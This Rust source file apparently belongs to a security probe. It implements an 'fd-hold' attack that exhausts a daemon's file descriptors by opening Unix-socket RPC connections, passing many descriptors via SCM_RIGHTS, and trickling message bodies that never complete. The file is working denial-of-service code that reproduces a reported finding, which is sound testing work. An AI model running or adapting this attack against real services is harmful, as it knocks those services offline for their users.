//! `enea-buffer-probe fd-hold`: the fd-exhaustion attack on the socket
//! transport. Each connection finishes the RPC handshake in fd mode `Unix`,
//! sends a TRANSACT header announcing a 60,000-byte body with `fds` fds in
//! `SCM_RIGHTS`, then trickles one body byte per `trickle`, so it never
//! completes a message yet never goes idle. Connections the daemon closes
//! are replaced, for the whole `duration`.

use std::io::{Read, Write};
use std::os::fd::AsFd;
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::{Duration, Instant};

use rustix::net::{sendmsg, SendAncillaryBuffer, SendAncillaryMessage, SendFlags};

/// A body size under the daemon's 64 KiB message bound, as in the finding.
const BODY: u32 = 60_000;

struct Held {
    stream: UnixStream,
    since: Instant,
}

/// Runs the attack; prints `ready` once the first round is sent and
/// `done opened= cut= refused= longest_hold_ms=` at the end.
pub fn run(socket: &Path, connections: usize, fds: usize, trickle: Duration, duration: Duration) {
    raise_fd_limit();
    let devnull = std::fs::File::open("/dev/null").expect("opening /dev/null");
    let end = Instant::now() + duration;
    let (mut opened, mut cut, mut refused) = (0u64, 0u64, 0u64);
    let mut longest = Duration::ZERO;
    let mut held: Vec<Held> = Vec::new();
    let mut announced = false;
    while Instant::now() < end {
        while held.len() < connections {
            match attack(socket, &devnull, fds) {
                Some(stream) => {
                    opened += 1;
                    held.push(Held {
                        stream,
                        since: Instant::now(),
                    });
                }
                None => {
                    refused += 1;
                    break;
                }
            }
        }
        if !announced && held.len() == connections {
            println!("ready");
            announced = true;
        }
        // Load pacing: the trickle's period, not a wait for a state.
        std::thread::sleep(trickle);
        held.retain_mut(|h| {
            let alive = still_open(&h.stream) && h.stream.write_all(&[0x5a]).is_ok();
            if !alive {
                cut += 1;
                longest = longest.max(h.since.elapsed());
            }
            alive
        });
    }
    for h in &held {
        longest = longest.max(h.since.elapsed());
    }
    println!(
        "done opened={opened} cut={cut} refused={refused} longest_hold_ms={}",
        longest.as_millis()
    );
}

/// One attacking connection, or `None` if the daemon refused it.
fn attack(socket: &Path, fd: &std::fs::File, fds: usize) -> Option<UnixStream> {
    let mut s = UnixStream::connect(socket).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    s.set_write_timeout(Some(Duration::from_secs(5))).ok()?;
    // RpcConnectionHeader v1: version, options, fd mode Unix (1),
    // reserved[8], no session id (a new session); then "cci".
    let mut hello = Vec::new();
    hello.extend_from_slice(&1u32.to_le_bytes());
    hello.extend_from_slice(&[0, 1]);
    hello.extend_from_slice(&[0u8; 8]);
    hello.extend_from_slice(&0u16.to_le_bytes());
    hello.extend_from_slice(b"cci\0\0\0\0\0");
    s.write_all(&hello).ok()?;
    let mut response = [0u8; 8];
    s.read_exact(&mut response).ok()?;
    // RpcWireHeader: TRANSACT (0), bodySize, reserved[2].
    let mut header = Vec::new();
    header.extend_from_slice(&0u32.to_le_bytes());
    header.extend_from_slice(&BODY.to_le_bytes());
    header.extend_from_slice(&[0u8; 8]);
    let passed = vec![fd.as_fd(); fds];
    let mut space = vec![std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(fds))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    if !control.push(SendAncillaryMessage::ScmRights(&passed)) {
        panic!("no room for {fds} fds in the control buffer");
    }
    let sent = sendmsg(
        &s,
        &[std::io::IoSlice::new(&header)],
        &mut control,
        SendFlags::NOSIGNAL,
    )
    .ok()?;
    (sent == header.len()).then_some(s)
}

/// Whether the daemon has not closed `s` from its side.
fn still_open(s: &UnixStream) -> bool {
    use rustix::event::{poll, PollFd, PollFlags, Timespec};
    let mut fds = [PollFd::new(s, PollFlags::IN | PollFlags::RDHUP)];
    let zero = Timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    matches!(poll(&mut fds, Some(&zero)), Ok(0))
}

/// Room for every fd this process sends and holds.
fn raise_fd_limit() {
    use rustix::process::{getrlimit, setrlimit, Resource, Rlimit};
    let limit = getrlimit(Resource::Nofile);
    let _ = setrlimit(
        Resource::Nofile,
        Rlimit {
            current: limit.maximum,
            maximum: limit.maximum,
        },
    );
}
